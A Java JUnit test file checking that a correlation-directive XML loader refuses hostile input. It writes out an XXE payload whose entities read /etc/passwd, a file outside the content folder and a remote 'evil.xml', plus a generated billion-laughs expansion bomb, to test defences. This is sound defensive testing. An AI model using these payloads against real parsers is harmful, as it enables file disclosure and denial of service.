package io.vigil.correlate.directive;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Directive files are untrusted content: entity tricks and malformed XML are refused with file and line. */
class HostileDirectivesTest {
    @TempDir Path tmp;

    static final String ONE = """
            <directive id="800001" name="ok" priority="2">
              <rule type="detector" name="r" plugin_id="4003" plugin_sid="1"/>
            </directive>
            """;

    @Test
    void anEntityNamingAFileOutsideTheContentFolderReadsNothingFromIt() throws IOException {
        Path outside = Files.createDirectories(tmp.resolve("outside"));
        Files.writeString(outside.resolve("secret.xml"), "<directive id=\"666\" name=\"leaked\" priority=\"5\"><rule type=\"detector\" name=\"x\" plugin_id=\"1\"/></directive>");
        Path content = Files.createDirectories(tmp.resolve("content"));
        Files.writeString(content.resolve("directives.xml"), """
                <?xml version="1.0"?>
                <!DOCTYPE directives [
                <!ENTITY leak SYSTEM "file://%s">
                <!ENTITY passwd SYSTEM "/etc/passwd">
                <!ENTITY remote SYSTEM "http://198.51.100.1/evil.xml">
                ]>
                <directives>&leak;&passwd;&remote;</directives>
                """.formatted(outside.resolve("secret.xml")));
        DirectiveLoader.Result r = DirectiveLoader.load(List.of(content));
        assertThat(r.directives()).isEmpty();
        assertThat(r.files()).allMatch(f -> f.startsWith(content));
        assertThat(r.errors()).extracting(ContentError::message).anyMatch(m -> m.contains("no file secret.xml beside directives.xml"))
                .anyMatch(m -> m.contains("no file passwd")).anyMatch(m -> m.contains("no file evil.xml"));
    }

    @Test
    void entityExpansionBombsStopAtTheLimitAndTheOtherFilesLoad() throws IOException {
        StringBuilder bomb = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE directives [\n<!ENTITY a0 \"lol\">\n");
        for (int i = 1; i <= 10; i++) bomb.append("<!ENTITY a").append(i).append(" \"").append(("&a" + (i - 1) + ";").repeat(10)).append("\">\n");
        bomb.append("]>\n<directives><directive id=\"1\" name=\"&a10;\" priority=\"1\"/></directives>\n");
        Files.writeString(tmp.resolve("bomb.xml"), bomb.toString());
        Files.writeString(tmp.resolve("fine.xml"), ONE);
        DirectiveLoader.Result r = DirectiveLoader.load(List.of(tmp));
        assertThat(r.directives()).extracting(Directive::id).containsExactly(800001);
        assertThat(r.errors()).singleElement().satisfies(e -> {
            assertThat(e.file().getFileName().toString()).isEqualTo("bomb.xml");
            assertThat(e.message()).containsIgnoringCase("entit");
        });
    }

    @Test
    void malformedXmlIsReportedWithItsLineAndWhatCameBeforeStays() throws IOException {
        Files.writeString(tmp.resolve("half.xml"), ONE + """
                <directive id="800002" name="broken" priority="2">
                  <rule type="detector" name="r" plugin_id="4003" plugin_sid="1">
                </directive>
                """);
        DirectiveLoader.Result r = DirectiveLoader.load(List.of(tmp.resolve("half.xml")));
        assertThat(r.directives()).extracting(Directive::id).containsExactly(800001);
        assertThat(r.errors()).singleElement().satisfies(e -> {
            assertThat(e.file().getFileName().toString()).isEqualTo("half.xml");
            assertThat(e.line()).isEqualTo(6);
        });
    }

    @Test
    void badValuesNameTheirAttributeAndLine() throws IOException {
        Files.writeString(tmp.resolve("bad.xml"), """
                <directive id="800003" name="bad from" priority="2">
                  <rule type="detector" name="r" plugin_id="4003" plugin_sid="1"
                        from="not an address!"/>
                </directive>
                <directive id="800004" name="bad sid" priority="2">
                  <rule type="detector" name="r" plugin_id="4003" plugin_sid="1,x"/>
                </directive>
                """ + ONE);
        DirectiveLoader.Result r = DirectiveLoader.load(List.of(tmp.resolve("bad.xml")));
        assertThat(r.directives()).extracting(Directive::id).containsExactly(800001);
        assertThat(r.errors()).extracting(ContentError::toString).containsExactly(
                tmp.resolve("bad.xml").toAbsolutePath() + ":3: directive 800003: from=\"not an address!\": 'not an address!' is not an address, a block, HOME_NET, a network name or a reference such as 1:SRC_IP",
                tmp.resolve("bad.xml").toAbsolutePath() + ":6: directive 800004: plugin_sid=\"1,x\": 'x' is not a number, a range, ANY or a reference such as 1:DST_PORT");
    }
}
